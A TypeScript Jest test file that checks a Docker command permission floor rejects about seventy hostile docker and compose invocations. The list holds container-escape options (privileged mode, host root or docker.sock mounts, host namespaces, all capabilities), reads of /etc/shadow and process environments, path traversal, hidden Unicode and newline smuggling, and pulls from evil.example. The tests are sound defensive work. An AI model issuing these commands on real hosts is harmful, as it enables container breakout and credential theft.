import { expect, test } from '@jest/globals';
import { buildSupports } from '../cli/build/build-call.js';
import { composeSupports } from '../cli/compose/supports.js';
import { engineSupports } from '../engine/engine-supports.js';
import { createExecutorFinder, isByClient } from '../executors.js';
import type { Executor } from '../task.js';
import { assertAboveFloor, readCommand } from './floor.js';

const big = 'a'.repeat(200_000);
const SETTINGS = { unlabelled: 'any', exchangeFolder: '/srv/x' } as const;
const reached: Executor = { run: () => Promise.reject(new Error('nobody runs it')) };
const executorFor = createExecutorFinder({
  engine: reached,
  cli: reached,
  unsupported: (call) => {
    if (!isByClient(call)) return engineSupports(call, SETTINGS);
    return call.command.startsWith('compose') ? composeSupports(call) : buildSupports(call);
  },
});

/** Whatever people have approved: on these words nobody is asked any more. */
const ATTEMPTS: readonly (readonly string[])[] = [
  ['run', '--privileged', 'i'],
  ['run', '--privileged=1', 'i'],
  ['run', '-v', '/:/h', 'i'],
  ['run', '-v', '/var/run/../run/docker.sock:/s', 'i'],
  ['run', '-v', '\u2215etc:/s', 'i'],
  ['run', '--mount', 'type=bind,source=/srv/a,src=/etc,dst=/e', 'i'],
  ['run', '--mount', 'type=volume,dst=/e,volume-opt=type=none,volume-opt=o=bind,volume-opt=device=/', 'i'],
  ['run', '--mount', 'type=bind\u00a0,src=/,dst=/e', 'i'],
  ['run', '--pid', 'host', 'i'],
  ['run', '--network', 'host', 'i'],
  ['run', '--network', ' host', 'i'],
  ['run', '--security-opt', 'seccomp=unconfined', 'i'],
  ['run', '--security-opt', 'label:disable', 'i'],
  ['run', '--cap-add', 'cap_sys_admin', 'i'],
  ['run', '--cap-add', 'ALL', 'i'],
  ['run', '--device', '/dev/sda', 'i'],
  ['run', '--label', 'wingman.tenant=x', 'i'],
  ['run', '--label-file', '/etc/passwd', 'i'],
  ['run', '--env-file', '/proc/self/environ', 'i'],
  ['run', '--cidfile', '/etc/x', 'i'],
  ['exec', '--privileged', 'web', 'sh'],
  ['exec', '--env-file', '/etc/shadow', 'web', 'sh'],
  ['exec', 'web/../x', 'sh'],
  ['exec', 'web?x=', 'sh'],
  ['cp', 'web:/etc/passwd', '/etc/x'],
  ['cp', '/srv/x/../../etc/shadow', 'web:/'],
  ['cp', '-L', '/srv/x/t/a', 'web:/'],
  ['cp', 'web:/x', '-'],
  ['cp', '/srv/x/t/a\u0000b', 'web:/'],
  ['rm', '-f', 'a/../../images/b'],
  ['rm', '--', '-f'],
  ['stop', '-t', '1&force=1', 'web'],
  ['rename', 'web', '../x'],
  ['logs', '--since', '1\nHost: x', 'web'],
  ['pull', 'evil.example/x@sha256:zz'],
  ['tag', 'a', 'b?repo=c'],
  ['system', 'dial-stdio'],
  ['-H', 'tcp://x', 'ps'],
  ['--context', 'x', 'ps'],
  ['--config', '/tmp', 'ps'],
  ['plugin', 'install', 'x'],
  ['swarm', 'init'],
  ['compose', '-f', '/etc/passwd', 'up'],
  ['compose', '-f', '-', 'up'],
  ['compose', '--env-file', '/proc/self/environ', 'up'],
  ['compose', '--project-directory', '/', 'up'],
  ['compose', 'exec', '--privileged', 'web', 'sh'],
  ['compose', 'run', '-v', '/:/h', 'web'],
  ['compose', '-H', 'x', 'ps'],
  ['compose', 'up', '--\u200bbuild'],
  ['compose', 'cp', 'web:/x', '/etc'],
  ['build', 'https://evil.example/x.git'],
  ['build', '--secret', 'id=a,src=/etc/shadow', '.'],
  ['build', '--output', '/etc', '.'],
  ['build', '--network', 'host', '.'],
  ['build', '--allow', 'security.insecure', '.'],
  ['run', big],
  ['run', ...Array.from({ length: 20_000 }, () => '-e'), 'i'],
  ['run', '--runtime', 'evil', 'i'],
  ['run', '--sysctl', 'kernel.core_pattern=|x', 'i'],
  ['run', '--log-driver', 'syslog', 'i'],
  ['run', '--cgroup-parent', '/', 'i'],
  ['run', '--oom-score-adj', '-1000', 'i'],
  ['run', '--gpus', 'all', 'i'],
  ['run', '--uts', 'host', 'i'],
  ['run', '--userns', 'host', 'i'],
  ['import', '/etc/shadow', 'x'],
  ['load', '-i', '/etc/shadow'],
  ['save', '-o', '/etc/x', 'i'],
  ['export', 'web'],
  ['attach', 'web'],
];

test.each(ATTEMPTS.map((words) => [JSON.stringify(words).slice(0, 100), words] as const))(
  'docker %s is carried out by nobody',
  (_shown, words) => {
    const argv = ['docker', ...words];
    const find = () => {
      const call = readCommand(argv);
      assertAboveFloor({ argv, call }, {});
      return executorFor({ argv, call });
    };
    expect(find).toThrow(expect.objectContaining({ code: 'policy_floor' }));
  },
);
